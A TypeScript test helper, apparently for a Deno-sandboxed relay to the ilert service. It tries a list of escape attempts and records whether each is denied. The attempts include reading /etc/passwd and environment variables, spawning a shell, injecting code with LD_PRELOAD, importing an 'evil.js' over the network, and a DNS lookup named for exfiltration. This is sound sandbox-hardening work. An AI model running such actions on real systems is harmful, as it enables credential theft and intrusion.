/** What code that turned hostile would try. Each answers how it went: `denied`, `allowed` or `failed: why`. */

import { spawn } from "node:child_process";
import { lookup } from "node:dns/promises";
import { connect } from "node:net";
import { DatabaseSync } from "node:sqlite";
import type { ScriptSetup } from "../../src/jail/script_messages.ts";

interface Target {
  /** The relay's database. */
  file: string;
  /** ilert, which the worker may reach. */
  apiHost: string;
  /** Whether the rights of a relay are expected. */
  canDeliver: boolean;
  /** Of `--edge_mode script`: what only its own worker may run. */
  script: ScriptSetup;
  /** Whether the rights of that worker are expected. */
  canRun: boolean;
}

/** Keeps a specifier out of the bundler's sight, as an attacker would. */
const hidden = (specifier: string) => import(specifier);

export async function attempts(
  { file, apiHost, canDeliver, script, canRun }: Target,
): Promise<Record<string, string>> {
  const folder = file.slice(0, file.lastIndexOf("/"));
  const { hostname, port } = new URL(apiHost);
  const tries: Record<string, () => unknown> = {
    "read /etc/passwd": () => Deno.readTextFileSync("/etc/passwd"),
    "read a neighbour of the database": () => Deno.readTextFileSync(`${folder}/secret.txt`),
    "list the database's folder": () => [...Deno.readDirSync(folder)],
    "write beside the database": () => Deno.writeTextFileSync(`${folder}/new.txt`, "x"),
    "write a temporary file": () => Deno.makeTempFileSync(),
    "attach another database": () =>
      new DatabaseSync(":memory:").exec(`ATTACH '${folder}/other.db' AS o; CREATE TABLE o.t (a)`),
    "open another database": () => new DatabaseSync(`${folder}/other.db`),
    "load an SQLite extension": () =>
      new DatabaseSync(":memory:", { allowExtension: true }).loadExtension("/tmp/x.so"),
    "connect to another port": () => Deno.connect({ hostname, port: Number(port) + 1 }),
    "connect to another host": () => Deno.connect({ hostname: "127.0.0.2", port: Number(port) }),
    "connect through node:net": () =>
      new Promise((resolve, reject) => {
        const socket = connect(Number(port) + 1, hostname);
        socket.on("connect", resolve);
        socket.on("error", reject);
      }),
    "fetch another host": () => fetch("http://127.0.0.2:8/"),
    "listen on another port": () => Deno.listen({ hostname: "127.0.0.1", port: 18999 }),
    "resolve a name": () => Deno.resolveDns("exfiltrated.example.invalid", "A"),
    "look a name up": () => lookup("exfiltrated.example.invalid"),
    "spawn a program": () => new Deno.Command("true").outputSync(),
    "spawn a shell": () => new Deno.Command("/bin/sh", { args: ["-c", "true"] }).outputSync(),
    "spawn a program through node": () =>
      new Promise((resolve, reject) => {
        const child = spawn("/bin/true");
        child.on("exit", resolve);
        child.on("error", reject);
      }),
    "run the script with other code in it": () =>
      new Deno.Command(script.path, { env: { LD_PRELOAD: "/tmp/evil.so" } }).outputSync(),
    "change the script": () => Deno.writeTextFileSync(script.path, "#!/bin/sh"),
    [`${canRun ? "(allowed) " : ""}run the script`]: () =>
      new Deno.Command(script.path, { clearEnv: true }).outputSync(),
    [`${canRun ? "(allowed) " : ""}run kill`]: () =>
      new Deno.Command(script.killPath, { args: ["-l"], clearEnv: true, stdout: "null" }).outputSync(),
    "kill another process": () => Deno.kill(Deno.ppid, "SIGCONT"),
    "read a variable": () => Deno.env.get("ILERT_API_HOST") ?? "",
    "list variables": () => Deno.env.toObject(),
    "ask the system for its name": () => Deno.hostname(),
    "load native code": () => Deno.dlopen("libc.so.6", {}),
    "import a package": () => hidden("npm:is-number@7.0.0"),
    "import from the network": () => hidden("http://127.0.0.1:8/evil.js"),
    "import a file": () => hidden(`file://${folder}/evil.js`),
    "start a worker with more rights": () => startedWorker(),
    "ask for more rights": async () => {
      const { state } = await Deno.permissions.request({ name: "net" });
      if (state !== "granted") throw new Deno.errors.NotCapable(state);
    },
    ...(canDeliver
      ? {
        "(allowed) reach ilert": () => fetch(`${apiHost}/_emulator/state`).then((answer) => answer.text()),
        "(allowed) use the database": () => new DatabaseSync(file).exec("CREATE TABLE IF NOT EXISTS t (a)"),
        "(allowed) listen on its own address": () =>
          Deno.listen({ hostname: "127.0.0.1", port: 18977 }).close(),
      }
      : {}),
  };
  const outcomes: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(tries)) outcomes[name] = await outcomeOf(attempt);
  return outcomes;
}

async function outcomeOf(attempt: () => unknown): Promise<string> {
  try {
    const result = await attempt();
    // --ignore-env answers as if nothing were set, which is as good as a refusal.
    return result === "" || isEmptyObject(result) ? "denied" : "allowed";
  } catch (error) {
    const text = error instanceof Error ? `${error.name}: ${error.message}` : String(error);
    return /NotCapable|Requires .* access|not allowed|cached-only|--no-remote|npm specifiers were requested|NotFound.*npm|too many attached databases - max 0|EPERM/i
        .test(text)
      ? "denied"
      : `failed: ${text.slice(0, 200)}`;
  }
}

function isEmptyObject(value: unknown): boolean {
  return typeof value === "object" && value !== null && Object.getPrototypeOf(value) === null &&
    Object.keys(value).length === 0;
}

function startedWorker(): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const worker = new Worker(
      "data:text/javascript,self.postMessage(Deno.readTextFileSync('/etc/passwd'))",
      { type: "module", deno: { permissions: { read: true } } },
    );
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new Error(event.message));
    };
  });
}
